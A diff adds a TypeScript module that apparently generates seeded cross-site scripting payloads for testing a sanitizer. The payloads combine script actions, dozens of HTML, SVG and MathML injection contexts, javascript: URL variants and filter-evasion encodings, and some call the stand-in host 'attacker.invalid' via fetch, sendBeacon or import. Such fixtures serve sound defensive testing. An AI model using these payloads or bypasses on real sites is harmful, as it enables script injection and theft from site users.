@@ -1,0 +1,178 @@
+import { type Chance, chance } from './random.ts';
+
+/** Where every payload that asks for something asks it: a host that is not ours. */
+export const FOREIGN_HOST = 'attacker.invalid';
+
+/**
+ * Texts that try to run a script or to fetch something, made from a grammar: what to do, where in a page it would take effect, and
+ * how it hides. Each calls the global `__trap` (or a dialog) or asks `FOREIGN_HOST`.
+ */
+export function payloads(count: number, seed: number): readonly string[] {
+  const dice = chance(seed);
+  return Array.from({ length: count }, (_, index) => disguise(place(deed(index, dice), dice), dice));
+}
+
+/** JavaScript that would tell. */
+function deed(index: number, dice: Chance): string {
+  return dice.pick([
+    `__trap(${index})`,
+    `alert(${index})`,
+    `window['__tr'+'ap'](${index})`,
+    `top.__trap(${index})`,
+    `\\u005f\\u005ftrap(${index})`,
+    `\\u{61}lert(${index})`,
+    `fetch(&quot;//${FOREIGN_HOST}/${index}&quot;)`.replaceAll('&quot;', "'"),
+    `new Image().src='//${FOREIGN_HOST}/${index}'`,
+    `navigator.sendBeacon('//${FOREIGN_HOST}/${index}')`,
+    `setTimeout('__trap(${index})')`,
+    `eval('__tr'+'ap(${index})')`,
+    `__trap\`${index}\``,
+    `[].constructor.constructor('__trap(${index})')()`,
+    `import('//${FOREIGN_HOST}/${index}')`,
+  ]);
+}
+
+const EVENTS = [
+  'onerror',
+  'onload',
+  'onfocus',
+  'ontoggle',
+  'onanimationstart',
+  'onbegin',
+  'onpointerenter',
+  'onbeforetoggle',
+] as const;
+
+/** The contexts in which a page might come to run it. */
+function place(script: string, dice: Chance): string {
+  const event = dice.pick(EVENTS);
+  const foreign = `//${FOREIGN_HOST}/${encodeURIComponent(script)}`;
+  const url = address(script, dice);
+  const element = (): string =>
+    dice.pick([
+      `<script>${script}</script>`,
+      `<script src="${foreign}"></script>`,
+      `<img src=x ${event}="${script}">`,
+      `<img src=x onerror=${script}>`,
+      `<svg onload="${script}">`,
+      `<svg><script>${script}</script></svg>`,
+      `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
+      `<svg><a href="${url}"><text y=20>more</text></a></svg>`,
+      `<svg><use href="data:image/svg+xml,<svg id=x onload='${script}'/>#x"/></svg>`,
+      `<svg><set attributeName=href to="${url}"/></svg>`,
+      `<svg><foreignObject><img src=x onerror="${script}"></foreignObject></svg>`,
+      `<math href="${url}">more</math>`,
+      `<math><maction actiontype="statusline#${url}" href="${url}">more</maction></math>`,
+      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
+      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
+      `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
+      `<a href="${url}">more</a>`,
+      `<a href=# ping="${foreign}">more</a>`,
+      `<iframe src="${url}"></iframe>`,
+      `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
+      `<object data="${url}"></object>`,
+      `<embed src="${url}">`,
+      `<form action="${url}"><input type=submit autofocus ${event}="${script}"></form>`,
+      `<button formaction="${url}">more</button>`,
+      `<input autofocus onfocus="${script}">`,
+      `<details open ontoggle="${script}"><summary>more</summary></details>`,
+      `<video src=x onerror="${script}" poster="${foreign}"></video>`,
+      `<audio src=x onerror="${script}"></audio>`,
+      `<marquee onstart="${script}">more</marquee>`,
+      `<body onload="${script}">`,
+      `<style>@import '${foreign}'; *{background:url(${foreign})}</style>`,
+      `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${script}">more</b>`,
+      `<p style="background:url('${foreign}')">more</p>`,
+      `<link rel=stylesheet href="${foreign}">`,
+      `<link rel=prefetch href="${foreign}">`,
+      `<meta http-equiv=refresh content="0;url=${url}">`,
+      `<base href="//${FOREIGN_HOST}/">`,
+      `<img src="${foreign}">`,
+      `<img srcset="${foreign} 2x">`,
+      `<picture><source srcset="${foreign}"><img></picture>`,
+      `<input type=image src="${foreign}">`,
+      `<template><img src=x onerror="${script}"></template>`,
+      `<xss id=x tabindex=1 onfocusin="${script}" autofocus>more</xss>`,
+      `<dialog open oncancel="${script}"><img src=x onerror="${script}"></dialog>`,
+      `<textarea autofocus onfocus="${script}"></textarea>`,
+      `<select autofocus onfocus="${script}"><option>more</select>`,
+      `<table background="${foreign}"><tr><td>more</table>`,
+      `<isindex type=image src=1 onerror="${script}">`,
+    ]);
+  return dice.pick<() => string>([
+    element,
+    element,
+    element,
+    // Out of whatever it is put into.
+    () => `">${element()}`,
+    () => `'>${element()}`,
+    () => `-->${element()}`,
+    () => `</title>${element()}`,
+    () => `</textarea></style></script>${element()}`,
+    () => `" autofocus ${event}="${script}`,
+    () => `' ${event}='${script}`,
+    () => `x\` ${event}=${script} \``,
+    // Script strings, templates and addresses.
+    () => `';${script};'`,
+    () => `";${script};//`,
+    () => `\${${script}}`,
+    () => `{{constructor.constructor("${script}")()}}`,
+    () => `<%= ${script} %>`,
+    () => url,
+    () => foreign,
+    () => `http:${foreign}`,
+    () => `expression(${script})`,
+    () => `}</style>${element()}`,
+  ])();
+}
+
+function address(script: string, dice: Chance): string {
+  return dice.pick([
+    `javascript:${script}`,
+    `JaVaScRiPt:${script}`,
+    `java\tscript:${script}`,
+    `java\nscript:${script}`,
+    ` \u0001javascript:${script}`,
+    `javascript&colon;${script}`,
+    `&#106;avascript:${script}`,
+    `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${script}`,
+    `java&Tab;script:${script}`,
+    `javascript://%0a${script}`,
+    `data:text/html,<script>parent.${script}</script>`,
+    `data:text/html;base64,${btoa(`<script>parent.${script}</script>`)}`,
+    `vbscript:${script}`,
+    `//${FOREIGN_HOST}/`,
+    `/\\${FOREIGN_HOST}/`,
+    `/\t/${FOREIGN_HOST}/`,
+    `\\\\${FOREIGN_HOST}`,
+    `https:${FOREIGN_HOST}`,
+  ]);
+}
+
+/** Ways past a filter that looks for the plain form. */
+function disguise(text: string, dice: Chance): string {
+  return dice.pick<() => string>([
+    () => text,
+    () => text,
+    () => text,
+    () => text.replace(/<(\w+)/g, (_, name: string) => `<${alternate(name)}`),
+    () => text.replace(/<(\w+) /g, '<$1/'),
+    () => text.replace(/<(\w+) /g, '<$1\n'),
+    () => text.replace(/<(\w+) /g, '<$1\f'),
+    () => text.replace(/=(["'])/g, ' = $1'),
+    () => text.replaceAll('<script', '<scr<script>ipt'),
+    () => text.replaceAll('<', '\u0000<'),
+    () => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+    () => text.replaceAll('<', '\\u003c'),
+    () => text.replaceAll('<', '\uff1c'),
+    () => `<!--${text}`,
+    () => `<b>${text}`,
+    () => `नाप ${text} \u202e`,
+    () => text.replace(/>$/, ''),
+    () => encodeURIComponent(text),
+  ])();
+}
+
+function alternate(text: string): string {
+  return [...text].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join('');
+}
